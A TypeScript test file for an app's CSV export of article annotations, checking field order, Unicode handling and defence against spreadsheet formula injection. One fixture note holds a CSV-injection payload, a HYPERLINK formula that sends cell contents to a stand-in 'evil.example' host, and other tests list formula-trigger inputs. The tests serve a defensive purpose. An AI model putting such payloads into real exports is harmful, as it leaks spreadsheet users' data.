import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvText } from '../../../core/exchange/csv';
import type { LibrarySnapshot } from '../../../core/exchange/snapshot';
import { naughtyStrings, sampleSnapshot } from './support';

const snapshot = sampleSnapshot();

function parse(text: string): Record<string, string>[] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const result = Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

/** What a spreadsheet would run as a formula: the cell's first character after any spaces. */
const FORMULA = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u;

describe('CSV export', () => {
  const rows = parse(csvText(snapshot));

  it('has one row per annotation under a header row, grouped by article in reading order', () => {
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(snapshot.annotations.length);
    const claim = rows.find((r) => r.quote!.startsWith('Unemployment'))!;
    expect(claim).toEqual({
      'article title': 'Parliament passes budget after all-night session',
      url: 'https://news.example.org/2024/05/budget-vote.html',
      kind: 'claim',
      quote: 'Unemployment has fallen to 4.1%, the lowest since records began',
      note: `'=HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
      tags: 'economy; statistics',
      claimant: 'Maria Example',
      about: 'Ministry of Finance; Example Statistics Office',
      verdict: 'True',
      'evidence urls': 'https://stats.example.gov/labour/2024-04; https://archive.example.org/web/2024/stats?a=1&b=2',
      created: '2024-05-02T10:05:00.000Z',
      updated: '2024-05-04T12:00:00.000Z',
    });
    const mention = rows.find((r) => r.kind === 'party-mention')!;
    expect(mention.about).toBe('Maria Example');
    expect(mention.verdict).toBe('');
    const budgetRows = rows.filter((r) => r.url === 'https://news.example.org/2024/05/budget-vote.html').map((r) => r.quote);
    expect(budgetRows[0]).toBe('Lawmakers approved the spending plan at dawn');
  });

  it('keeps quotes, commas, line breaks, RTL text and emoji intact', () => {
    const quoted = rows.find((r) => r.quote!.startsWith('We never said'))!;
    expect(quoted.quote).toBe('We never said "cut", we said "reform",\nand that\'s final');
    expect(quoted.tags).toBe('quotes, commas');
    expect(quoted.note).toContain('\u202eRTL override\u202c and emoji 🧪🏳️‍🌈');
    expect(rows.find((r) => r.kind === 'claim' && r.verdict === 'False')!.claimant).toBe('نور الهدى');
  });

  it('neutralises every cell a spreadsheet would run as a formula', () => {
    const legacy = rows.find((r) => r.quote === "'+1 -1 @mention")!;
    expect(legacy.tags).toBe("'=SUM(A1:A2); @admin");
    const quoted = rows.find((r) => r.quote!.startsWith('We never said'))!;
    expect(quoted.note!.startsWith("'\t=1+2")).toBe(true);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0@x', '＝1+1', '=A1\n+B1'])(
    'puts a quote before %j',
    (note) => {
      const [base] = snapshot.annotations;
      const [row] = parse(csvText({ ...snapshot, annotations: [{ ...base!, note }] }));
      expect(row!.note).toBe(`'${note}`);
    },
  );

  it.each(['1+1', 'a=b', 'x@example.org', 'not -1'])('leaves %j as it is', (note) => {
    const [base] = snapshot.annotations;
    const [row] = parse(csvText({ ...snapshot, annotations: [{ ...base!, note }] }));
    expect(row!.note).toBe(note);
  });

  it('round-trips every naughty string, prefixed with a quote exactly when it would run as a formula', () => {
    const strings = naughtyStrings().filter((s) => s.trim() !== '');
    const [base] = snapshot.annotations;
    const hostile: LibrarySnapshot = {
      ...snapshot,
      annotations: strings.map((s, i) => ({ ...base!, id: `n-${i}`, note: s, tags: [], target: { ...base!.target, position: { ...base!.target.position, start: i } } })),
    };
    const notes = parse(csvText(hostile)).map((r) => r.note);
    expect(notes).toHaveLength(strings.length);
    strings.forEach((s, i) => {
      expect(notes[i]).toBe(FORMULA.test(s) ? `'${s}` : s);
      expect(notes[i]).not.toMatch(FORMULA);
    });
  });
});
